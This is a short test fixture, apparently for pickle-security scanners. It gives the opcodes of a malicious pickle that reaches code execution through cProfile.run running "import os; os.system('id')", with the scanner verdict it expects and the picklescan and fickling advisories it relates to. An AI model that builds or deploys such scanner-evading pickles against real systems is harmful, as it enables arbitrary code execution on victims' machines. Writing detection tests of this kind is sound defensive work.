#! technique 49 cProfile.run exec()s a string
#! expect PICKLE-EXEC cProfile.run
# picklescan GHSA-49gj-c84q-6qm9; fickling GHSA-p523-jq9w-64x9 / CVE-2026-22607.
PROTO 4
SHORT_BINUNICODE "cProfile"
SHORT_BINUNICODE "run"
STACK_GLOBAL
SHORT_BINUNICODE "import os; os.system('id')"
TUPLE1
REDUCE
STOP
